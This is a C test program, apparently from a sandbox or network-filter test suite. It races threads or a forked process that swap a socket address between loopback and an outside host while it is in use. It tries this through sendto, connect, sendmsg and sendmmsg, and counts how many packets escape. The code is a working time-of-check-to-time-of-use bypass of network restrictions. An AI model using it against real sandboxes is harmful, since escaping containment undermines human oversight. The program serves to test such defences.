// SPDX-License-Identifier: GPL-2.0-or-later
// The address in memory changes between the moment it is judged and the moment the kernel reads
// it: another thread flips it between loopback and the outside. argv: how, attempts. Prints how
// many attempts were made; what counts is what reached the outside.
//   sendto, connect   struct sockaddr flipped by a thread
//   sendmsg           msg_name of the msghdr switched between two addresses
//   sendmmsg          the same in the last of a vector
//   shared            sendto; the address in a shared mapping, flipped by another process
#define _GNU_SOURCE
#include "attack.h"
#include <pthread.h>
#include <signal.h>
#include <sys/mman.h>

static struct sockaddr_in here, there;
static volatile struct sockaddr_in *flipped;
static struct msghdr *message;
static volatile int stop;

static void *flip(void *unused)
{
	while (!stop) {
		flipped->sin_addr.s_addr = there.sin_addr.s_addr;
		flipped->sin_port = there.sin_port;
		__asm__ volatile("pause");
		flipped->sin_addr.s_addr = here.sin_addr.s_addr;
		flipped->sin_port = here.sin_port;
		__asm__ volatile("pause"); // as long innocent as not
	}
	return unused;
}

static void *flip_pointer(void *unused)
{
	while (!stop) {
		*(void *volatile *)&message->msg_name = &there;
		__asm__ volatile("pause");
		*(void *volatile *)&message->msg_name = &here;
		__asm__ volatile("pause");
	}
	return unused;
}

int main(int argc, char **argv)
{
	const char *how = argc > 1 ? argv[1] : "sendto";
	int attempts = argc > 2 ? atoi(argv[2]) : 1000, done = 0;
	struct iovec data = {"escaped", 7};
	struct mmsghdr vector[3];
	pthread_t thread;
	pid_t other = 0;

	here = loopback(), there = outside();
	flipped = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	*flipped = here;
	memset(vector, 0, sizeof vector);
	for (int i = 0; i < 3; i++)
		vector[i].msg_hdr = (struct msghdr){.msg_name = &here, .msg_namelen = sizeof here,
						    .msg_iov = &data, .msg_iovlen = 1};
	message = &vector[strcmp(how, "sendmmsg") ? 0 : 2].msg_hdr;
	if (!strcmp(how, "shared")) {
		if ((other = fork()) == 0)
			flip(NULL);
	} else {
		pthread_create(&thread, NULL, strstr(how, "msg") ? flip_pointer : flip, NULL);
	}
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	for (; done < attempts; done++) {
		if (!strcmp(how, "sendmsg"))
			sendmsg(fd, message, 0);
		else if (!strcmp(how, "sendmmsg"))
			sendmmsg(fd, vector, 3, 0);
		else if (!strcmp(how, "connect")) {
			if (connect(fd, (void *)flipped, sizeof here) == 0)
				send(fd, "escaped", 7, 0);
		} else
			sendto(fd, "escaped", 7, 0, (void *)flipped, sizeof here);
	}
	stop = 1;
	if (other)
		kill(other, SIGKILL);
	printf("%d attempts\n", done);
	return 0;
}
